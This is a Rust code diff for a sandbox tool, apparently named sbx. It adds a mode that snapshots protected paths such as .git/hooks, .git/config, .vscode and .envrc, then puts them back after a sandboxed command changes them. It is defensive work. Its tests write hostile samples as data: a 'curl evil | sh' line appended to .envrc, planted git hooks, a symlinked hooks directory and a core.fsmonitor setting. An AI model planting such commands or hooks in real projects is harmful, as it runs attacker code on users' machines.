@@ -7,8 +7,13 @@ use anyhow::{Context, Result};
 
 use super::identity::{GitConfigWatch, Identity, Repositories};
 use super::repositories::check_new_repositories;
+use super::snapshot::{self, Held, Snapshot};
 use super::{gitconfig, journal, sweep};
-use crate::policy::{self, Policy};
+use crate::policy::{self, Policy, Protected};
+
+/// Why the command is not run when its note cannot be written.
+const NO_NOTE: &str =
+    "the run's note for the checks after it cannot be written, so the command was not run";
 
 /// What one run checks after its command, recorded before it starts.
 pub struct Checks<'a> {
@@ -23,6 +28,10 @@ pub struct Checks<'a> {
     /// The run's private git config copies, applied after it, and the
     /// configs they are copies of (in the order of the plan).
     copies: Option<(PathBuf, Vec<&'a GitConfigWatch>)>,
+    /// An after-the-fact run's copies of the "runs later" paths that exist,
+    /// put back after it where the command changed them (see
+    /// [`snapshot`]).
+    snapshot: Option<Held>,
     /// This run's note, removed when the checks are done (dropped).
     _note: Option<journal::Pending>,
 }
@@ -33,28 +42,34 @@ impl<'a> Checks<'a> {
     /// if this sbx dies before it can. With `copies`, the private git config
     /// copies are made there (after the note, so that a killed run's copies
     /// are always found and removed).
+    ///
+    /// `after_the_fact`: for a sandbox that cannot keep the "runs later"
+    /// paths read-only during the run (`copies` is then `None`): those that
+    /// exist are copied to the cache, and put back after the run where the
+    /// command changed them (see the module). An error, naming the path,
+    /// when they are too many or too large to copy, or when there is no
+    /// cache to copy them to.
     pub fn record(
         policy: &'a Policy,
         cache: Option<&Path>,
         copies: Option<&Path>,
+        after_the_fact: bool,
     ) -> Result<Checks<'a>> {
+        let repositories = repositories(policy);
+        if after_the_fact {
+            return Self::record_after_the_fact(policy, cache, repositories);
+        }
         let watch = watch_list(policy);
-        let repositories: Vec<&Repositories> = policy
-            .repositories
-            .iter()
-            .filter(|r| {
-                policy
-                    .writable
-                    .iter()
-                    .any(|w| r.scan_root.starts_with(w) || w.starts_with(&r.scan_root))
-            })
-            .chain(&policy.other_repositories)
-            .collect();
         let note = match cache {
-            Some(c) => Some(
-                journal::write(c, &watch, &policy.git_configs, &repositories)
-                    .context("the run's note for the checks after it cannot be written, so the command was not run")?,
-            ),
+            Some(c) => {
+                let contents = journal::Contents {
+                    watch: &watch,
+                    git_configs: &policy.git_configs,
+                    repositories: &repositories,
+                    snapshot: None,
+                };
+                Some(journal::write(c, &contents).context(NO_NOTE)?)
+            }
             None => None,
         };
         let copies = copies.map(|dir| {
@@ -74,7 +89,55 @@ impl<'a> Checks<'a> {
             repositories,
             cache: cache.map(Path::to_path_buf),
             copies,
+            snapshot: None,
             _note: note,
+        })
+    }
+
+    /// [`Checks::record`] after the fact: the note is written first (with
+    /// the fingerprints), then the copies are made, then the note again
+    /// with the copies' fingerprints, which tell a killed run's next run
+    /// that the command may have started.
+    fn record_after_the_fact(
+        policy: &'a Policy,
+        cache: Option<&Path>,
+        repositories: Vec<&'a Repositories>,
+    ) -> Result<Checks<'a>> {
+        let cache = cache.context(
+            "sbx copies the paths that run later outside the sandbox to its cache directory during the run, and there is none; the command was not run",
+        )?;
+        let dir = snapshot::dir(cache).context("reading /proc/self/stat")?;
+        let owners = owners(policy, &dir)?;
+        let mut snapshot = Snapshot::plan(dir, &owners.kept, owners.configs)?;
+        let note = journal::write(
+            cache,
+            &journal::Contents {
+                watch: &owners.watch,
+                git_configs: &[],
+                repositories: &repositories,
+                snapshot: Some(&snapshot),
+            },
+        )
+        .context(NO_NOTE)?;
+        snapshot.copy()?;
+        let contents = journal::Contents {
+            watch: &owners.watch,
+            git_configs: &[],
+            repositories: &repositories,
+            snapshot: Some(&snapshot),
+        };
+        note.rewrite(&contents).context(NO_NOTE).inspect_err(|_| {
+            let _ = super::aside::remove_any(&snapshot.dir);
+        })?;
+        Ok(Checks {
+            watch: owners.watch,
+            // Each config is put back (the snapshot's) or copied whole.
+            git_configs: &[],
+            repositories,
+            cache: Some(cache.to_path_buf()),
+            copies: None,
+            snapshot: Some(Held::new(snapshot)),
+            _note: Some(note),
         })
     }
 
@@ -101,12 +164,110 @@ impl<'a> Checks<'a> {
                 clean = false;
             }
         }
+        // Before the new repositories: a `.git/hooks` put back is the one
+        // they are looked at with.
+        if let Some(held) = self.snapshot {
+            if !held.finish(warn) {
+                clean = false;
+            }
+        }
         for repositories in &self.repositories {
             if !check_new_repositories(repositories, self.cache.as_deref(), warn) {
                 clean = false;
             }
         }
         clean
+    }
+}
+
+/// The repositories the checks look at: those under the project when they
+/// are in a writable root (a new one there was made by the command), and
+/// those of the other writable roots.
+fn repositories(policy: &Policy) -> Vec<&Repositories> {
+    policy
+        .repositories
+        .iter()
+        .filter(|r| {
+            policy
+                .writable
+                .iter()
+                .any(|w| r.scan_root.starts_with(w) || w.starts_with(&r.scan_root))
+        })
+        .chain(&policy.other_repositories)
+        .collect()
+}
+
+/// Who looks after each protected path in an after-the-fact run, one each.
+#[derive(Default)]
+struct Owners {
+    /// Copied and put back ([`Snapshot`]).
+    kept: Vec<PathBuf>,
+    /// Git configs whose content is put back and whose everyday changes
+    /// are applied (`snapshot_configs`).
+    configs: Vec<GitConfigWatch>,
+    /// Swept as in a run that keeps them read-only ([`sweep()`]): the
+    /// missing ones, and one that holds sbx's own snapshot (its cache).
+    watch: Vec<(PathBuf, Option<Identity>)>,
+}
+
+/// Share out the protected paths (see [`Owners`]). A path inside one that
+/// is copied is left to it (it goes back with it); a missing one that a
+/// run keeping them read-only would create (`.git/hooks`, `.git/config`)
+/// is created now, as git would, and copied like the others.
+fn owners(policy: &Policy, snapshot_dir: &Path) -> Result<Owners> {
+    let mut configs: Vec<GitConfigWatch> = policy
+        .git_configs
+        .iter()
+        .filter(|c| c.gets_a_copy())
+        .cloned()
+        .collect();
+    let mut protected: Vec<&Protected> = policy.protected.iter().collect();
+    // Parents before what they hold.
+    protected.sort_by(|a, b| a.path.cmp(&b.path));
+    protected.dedup_by(|a, b| a.path == b.path);
+    let mut out = Owners::default();
+    for p in protected {
+        if out.kept.iter().any(|k| p.path.starts_with(k)) {
+            continue;
+        }
+        if snapshot_dir.starts_with(&p.path) {
+            out.watch.push((p.path.clone(), p.identity.clone()));
+            continue;
+        }
+        if configs.iter().any(|c| c.path == p.path) {
+            continue;
+        }
+        if p.create && std::fs::symlink_metadata(&p.path).is_err() {
+            create(p)?;
+        }
+        if std::fs::symlink_metadata(&p.path).is_ok() {
+            out.kept.push(p.path.clone());
+        } else {
+            out.watch.push((p.path.clone(), p.identity.clone()));
+        }
+    }
+    configs.retain(|c| !out.kept.iter().any(|k| c.path.starts_with(k)));
+    out.configs = configs;
+    out.watch.sort();
+    Ok(out)
+}
+
+/// Create a missing `.git/hooks` or `.git/config` empty, as a run that
+/// keeps them read-only does (`exec::prepare`).
+fn create(p: &Protected) -> Result<()> {
+    let made = match p.kind {
+        policy::Kind::Dir => std::fs::create_dir(&p.path),
+        _ => std::fs::OpenOptions::new()
+            .write(true)
+            .create_new(true)
+            .open(&p.path)
+            .map(drop),
+    };
+    match made {
+        Err(e) if e.kind() != std::io::ErrorKind::AlreadyExists => {
+            Err(e).with_context(|| format!("creating {} so that it can be kept", p.path.display()))
+        }
+        _ => Ok(()),
     }
 }
 
@@ -134,4 +295,383 @@ fn watch_list(policy: &Policy) -> Vec<(PathBuf, Option<Identity>)> {
         .collect();
     watch.sort();
     watch
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::integrity::gitconfig::TRUSTED_GIT;
+    use crate::policy::{Kind, Platform};
+    use std::cell::RefCell;
+
+    /// A policy protecting `paths` (relative to `root`, with their kind)
+    /// as they are now, and the git configs `configs` among them.
+    fn policy(root: &Path, paths: &[(&str, Kind)], configs: &[&str]) -> Policy {
+        let mut p = crate::policy::test_policy(Platform::Linux);
+        p.project = root.to_path_buf();
+        p.writable = vec![root.to_path_buf()];
+        p.protected = paths
+            .iter()
+            .map(|(rel, kind)| {
+                let path = root.join(rel);
+                Protected {
+                    identity: Identity::of(&path),
+                    create: false,
+                    kind: *kind,
+                    path,
+                }
+            })
+            .collect();
+        p.git_configs = configs
+            .iter()
+            .map(|rel| {
+                let path = root.join(rel);
+                GitConfigWatch {
+                    identity: Identity::of(&path),
+                    before: std::fs::read(&path).unwrap_or_default(),
+                    path,
+                }
+            })
+            .collect();
+        p
+    }
+
+    /// A project with `.git/hooks` (one sample), `.git/config`, `.vscode`
+    /// and `.envrc`.
+    fn project(root: &Path) {
+        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
+        std::fs::write(root.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
+        std::fs::write(root.join(".git/config"), BASE).unwrap();
+        std::fs::create_dir_all(root.join(".vscode")).unwrap();
+        std::fs::write(root.join(".vscode/settings.json"), "{}").unwrap();
+        std::fs::write(root.join(".envrc"), "export A=1\n").unwrap();
+    }
+
+    const BASE: &str = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n";
+
+    const PATHS: &[(&str, Kind)] = &[
+        (".git/hooks", Kind::Dir),
+        (".git/config", Kind::File),
+        (".vscode", Kind::Dir),
+        (".envrc", Kind::File),
+        (".idea", Kind::Missing),
+    ];
+
+    fn verify(checks: Checks) -> (bool, Vec<String>) {
+        let said = RefCell::new(Vec::new());
+        let clean = checks.verify(&|t| said.borrow_mut().push(t.to_string()));
+        (clean, said.take())
+    }
+
+    /// What `CACHE/pending` holds.
+    fn pending(cache: &Path) -> Vec<String> {
+        std::fs::read_dir(journal::dir(cache))
+            .into_iter()
+            .flatten()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect()
+    }
+
+    fn git_config(file: &Path, key: &str, value: &str) {
+        let ok = std::process::Command::new(TRUSTED_GIT)
+            .args(["config", "--file"])
+            .arg(file)
+            .args([key, value])
+            .status()
+            .unwrap()
+            .success();
+        assert!(ok);
+    }
+
+    fn has_git() -> bool {
+        let there = Path::new(TRUSTED_GIT).is_file();
+        if !there {
+            eprintln!("skipped: {TRUSTED_GIT} is not installed");
+        }
+        there
+    }
+
+    #[test]
+    fn unchanged_paths_are_left_alone_and_the_copies_go() {
+        let tmp = tempfile::tempdir().unwrap();
+        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
+        project(&root);
+        let p = policy(&root, PATHS, &[".git/config"]);
+        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
+        let snapshot_dir = snapshot::dir(&cache).unwrap();
+        // The config is put back by its own logic, not copied; the
+        // missing .idea is swept.
+        assert_eq!(std::fs::read_dir(&snapshot_dir).unwrap().count(), 3);
+        assert_eq!(checks.watch, vec![(root.join(".idea"), None)]);
+        assert_eq!(pending(&cache).len(), 2);
+        assert_eq!(verify(checks), (true, vec![]));
+        assert!(pending(&cache).is_empty(), "{:?}", pending(&cache));
+        assert_eq!(
+            std::fs::read_to_string(root.join(".envrc")).unwrap(),
+            "export A=1\n"
+        );
+        assert_eq!(std::fs::read_dir(&root).unwrap().count(), 3);
+    }
+
+    #[test]
+    fn a_file_edited_in_place_is_put_back_and_its_version_moved_aside() {
+        use std::io::Write;
+        use std::os::unix::fs::MetadataExt;
+        let tmp = tempfile::tempdir().unwrap();
+        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
+        project(&root);
+        let p = policy(&root, PATHS, &[]);
+        let envrc = root.join(".envrc");
+        let inode = std::fs::metadata(&envrc).unwrap().ino();
+        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
+        let mut f = std::fs::OpenOptions::new()
+            .append(true)
+            .open(&envrc)
+            .unwrap();
+        f.write_all(b"curl evil | sh\n").unwrap();
+        drop(f);
+        assert_eq!(std::fs::metadata(&envrc).unwrap().ino(), inode);
+        let (clean, said) = verify(checks);
+        assert!(clean, "{said:?}");
+        assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "export A=1\n");
+        let blocked = root.join(".envrc.sbx-blocked");
+        assert!(std::fs::read_to_string(&blocked).unwrap().contains("evil"));
+        assert_eq!(said.len(), 1, "{said:?}");
+        assert!(said[0].contains(&envrc.display().to_string()), "{said:?}");
+        assert!(said[0].contains(&blocked.display().to_string()), "{said:?}");
+        assert!(pending(&cache).is_empty());
+    }
+
+    #[test]
+    fn a_file_added_to_a_protected_directory_puts_the_directory_back() {
+        let tmp = tempfile::tempdir().unwrap();
+        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
+        project(&root);
+        let p = policy(&root, PATHS, &[]);
+        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
+        std::fs::write(root.join(".git/hooks/pre-commit"), "#!/bin/sh\nevil\n").unwrap();
+        std::fs::write(root.join(".vscode/tasks.json"), "{\"tasks\": []}").unwrap();
+        let (clean, said) = verify(checks);
+        assert!(clean, "{said:?}");
+        for dir in [".git/hooks", ".vscode"] {
+            let blocked = root.join(format!("{dir}.sbx-blocked"));
+            assert!(blocked.is_dir(), "{dir}");
+            assert!(said
+                .iter()
+                .any(|t| t.contains(&blocked.display().to_string())));
+        }
+        assert!(!root.join(".git/hooks/pre-commit").exists());
+        assert!(root.join(".git/hooks/pre-commit.sample").exists());
+        assert!(root.join(".git/hooks.sbx-blocked/pre-commit").exists());
+        assert!(!root.join(".vscode/tasks.json").exists());
+        assert_eq!(
+            std::fs::read_to_string(root.join(".vscode/settings.json")).unwrap(),
+            "{}"
+        );
+    }
+
+    #[test]
+    fn a_link_planted_in_place_of_a_directory_is_moved_aside() {
+        let tmp = tempfile::tempdir().unwrap();
+        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
+        project(&root);
+        let p = policy(&root, PATHS, &[]);
+        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
+        let evil = tmp.path().join("evil-hooks");
+        std::fs::create_dir(&evil).unwrap();
+        std::fs::write(evil.join("pre-commit"), "evil").unwrap();
+        std::fs::rename(root.join(".git/hooks"), tmp.path().join("gone")).unwrap();
+        std::os::unix::fs::symlink(&evil, root.join(".git/hooks")).unwrap();
+        let (clean, said) = verify(checks);
+        assert!(clean, "{said:?}");
+        let hooks = std::fs::symlink_metadata(root.join(".git/hooks")).unwrap();
+        assert!(hooks.is_dir());
+        assert!(root.join(".git/hooks/pre-commit.sample").exists());
+        let blocked = std::fs::symlink_metadata(root.join(".git/hooks.sbx-blocked")).unwrap();
+        assert!(blocked.is_symlink());
+        // Nothing was written where the link pointed.
+        assert_eq!(std::fs::read_dir(&evil).unwrap().count(), 1);
+    }
+
+    #[test]
+    fn a_missing_hooks_directory_is_created_and_kept() {
+        let tmp = tempfile::tempdir().unwrap();
+        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
+        std::fs::create_dir_all(root.join(".git")).unwrap();
+        let mut p = policy(&root, &[(".git/hooks", Kind::Dir)], &[]);
+        p.protected[0].create = true;
+        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
+        assert!(root.join(".git/hooks").is_dir());
+        assert!(checks.watch.is_empty());
+        std::fs::write(root.join(".git/hooks/post-checkout"), "evil").unwrap();
+        let (clean, said) = verify(checks);
+        assert!(clean, "{said:?}");
+        assert_eq!(
+            std::fs::read_dir(root.join(".git/hooks")).unwrap().count(),
+            0
+        );
+    }
+
+    /// sbx's cache (where the copies go) may be a protected path itself:
+    /// it is swept as in the other mode, never copied into itself.
+    #[test]
+    fn the_cache_is_watched_not_copied() {
+        let tmp = tempfile::tempdir().unwrap();
+        let cache = tmp.path().join("cache");
+        std::fs::create_dir_all(&cache).unwrap();
+        std::fs::write(tmp.path().join(".envrc"), "x").unwrap();
+        let p = policy(
+            tmp.path(),
+            &[("cache", Kind::Dir), (".envrc", Kind::File)],
+            &[],
+        );
+        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
+        assert_eq!(checks.watch.len(), 1);
+        assert_eq!(checks.watch[0].0, cache);
+        assert_eq!(verify(checks), (true, vec![]));
+    }
+
+    #[test]
+    fn too_much_to_copy_refuses_the_run_and_leaves_nothing() {
+        let tmp = tempfile::tempdir().unwrap();
+        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
+        project(&root);
+        let blob = std::fs::File::create(root.join(".vscode/blob")).unwrap();
+        blob.set_len(snapshot::MAX_BYTES).unwrap();
+        let p = policy(&root, PATHS, &[]);
+        let err = Checks::record(&p, Some(&cache), None, true)
+            .err()
+            .unwrap()
+            .to_string();
+        assert!(err.contains(".vscode") && err.contains("not run"), "{err}");
+        assert!(pending(&cache).is_empty());
+        // And there is no cache to copy to.
+        let err = Checks::record(&p, None, None, true)
+            .err()
+            .unwrap()
+            .to_string();
+        assert!(err.contains("cache"), "{err}");
+    }
+
+    #[test]
+    fn a_config_edited_by_git_gets_its_everyday_settings_only() {
+        if !has_git() {
+            return;
+        }
+        let tmp = tempfile::tempdir().unwrap();
+        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
+        project(&root);
+        let config = root.join(".git/config");
+        let p = policy(&root, PATHS, &[".git/config"]);
+        // Everyday settings alone are applied.
+        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
+        git_config(&config, "user.email", "a@example.com");
+        let (clean, said) = verify(checks);
+        assert!(clean, "{said:?}");
+        assert!(std::fs::read_to_string(&config)
+            .unwrap()
+            .contains("a@example.com"));
+        assert!(!root.join(".git/config.sbx-blocked").exists());
+        // With a setting that runs a command, nothing is applied (all or
+        // nothing, as for a private copy), the refused one is named, and
+        // the command's version is kept for review.
+        let p = policy(&root, PATHS, &[".git/config"]);
+        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
+        git_config(&config, "user.email", "b@example.com");
+        git_config(&config, "core.fsmonitor", "evil");
+        let (clean, said) = verify(checks);
+        assert!(!clean, "{said:?}");
+        let now = std::fs::read_to_string(&config).unwrap();
+        assert!(
+            !now.contains("fsmonitor") && !now.contains("b@example.com"),
+            "{now}"
+        );
+        assert!(now.contains("a@example.com"), "{now}");
+        assert!(
+            said.iter().any(|t| t.contains("core.fsmonitor=evil")),
+            "{said:?}"
+        );
+        let kept = std::fs::read_to_string(root.join(".git/config.sbx-blocked")).unwrap();
+        assert!(kept.contains("fsmonitor"));
+        // Only the config's own logic acted on it: no copy of it was put back.
+        assert!(!said.iter().any(|t| t.contains("was put back")), "{said:?}");
+        assert!(pending(&cache).is_empty());
+    }
+
+    /// A killed run (its note left behind, nothing verified): the next run
+    /// puts its paths back from the note, and its config's changes are
+    /// kept aside, never applied.
+    #[test]
+    fn a_killed_runs_paths_are_put_back_by_the_next_run() {
+        let tmp = tempfile::tempdir().unwrap();
+        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
+        project(&root);
+        let p = policy(&root, PATHS, &[".git/config"]);
+        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
+        std::fs::write(root.join(".git/hooks/pre-commit"), "evil").unwrap();
+        std::fs::write(root.join(".envrc"), "evil").unwrap();
+        std::fs::write(root.join(".idea"), "evil").unwrap();
+        std::fs::write(
+            root.join(".git/config"),
+            format!("{BASE}[user]\n\temail = x\n"),
+        )
+        .unwrap();
+        // Killed: nothing runs after the command, the note stays.
+        std::mem::forget(checks);
+        let key = journal::process_key(std::process::id()).unwrap();
+        let note = journal::dir(&cache).join(format!("run-{key}.json"));
+        std::fs::rename(&note, journal::dir(&cache).join("run-0-1.json")).unwrap();
+        let said = RefCell::new(Vec::new());
+        let clean = journal::recover(&cache, &|t| said.borrow_mut().push(t.to_string()));
+        let said = said.take();
+        assert!(clean, "{said:?}");
+        assert!(!root.join(".git/hooks/pre-commit").exists());
+        assert!(root.join(".git/hooks.sbx-blocked/pre-commit").exists());
+        assert_eq!(
+            std::fs::read_to_string(root.join(".envrc")).unwrap(),
+            "export A=1\n"
+        );
+        assert!(!root.join(".idea").exists());
+        assert_eq!(
+            std::fs::read_to_string(root.join(".git/config")).unwrap(),
+            BASE
+        );
+        let kept = std::fs::read_to_string(root.join(".git/config.sbx-blocked")).unwrap();
+        assert!(kept.contains("email = x"));
+        assert!(said.iter().any(|t| t.contains("never applied")), "{said:?}");
+        assert!(pending(&cache).is_empty(), "{:?}", pending(&cache));
+    }
+
+    /// A note written before the copies were all made: the command never
+    /// started, so nothing is put back, and what was copied goes.
+    #[test]
+    fn a_run_killed_before_its_command_leaves_nothing_to_do() {
+        let tmp = tempfile::tempdir().unwrap();
+        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
+        project(&root);
+        let p = policy(&root, PATHS, &[]);
+        let dir = snapshot::dir(&cache).unwrap();
+        let owners = owners(&p, &dir).unwrap();
+        let snapshot = Snapshot::plan(dir.clone(), &owners.kept, owners.configs).unwrap();
+        let contents = journal::Contents {
+            watch: &owners.watch,
+            git_configs: &[],
+            repositories: &[],
+            snapshot: Some(&snapshot),
+        };
+        let note = journal::write(&cache, &contents).unwrap();
+        std::fs::create_dir_all(dir.join("0")).unwrap();
+        std::mem::forget(note);
+        let key = journal::process_key(std::process::id()).unwrap();
+        let note = journal::dir(&cache).join(format!("run-{key}.json"));
+        std::fs::rename(&note, journal::dir(&cache).join("run-0-1.json")).unwrap();
+        // The user's own change meanwhile stays.
+        std::fs::write(root.join(".envrc"), "the user's").unwrap();
+        assert!(journal::recover(&cache, &|_| {}));
+        assert_eq!(
+            std::fs::read_to_string(root.join(".envrc")).unwrap(),
+            "the user's"
+        );
+        assert!(pending(&cache).is_empty());
+    }
 }
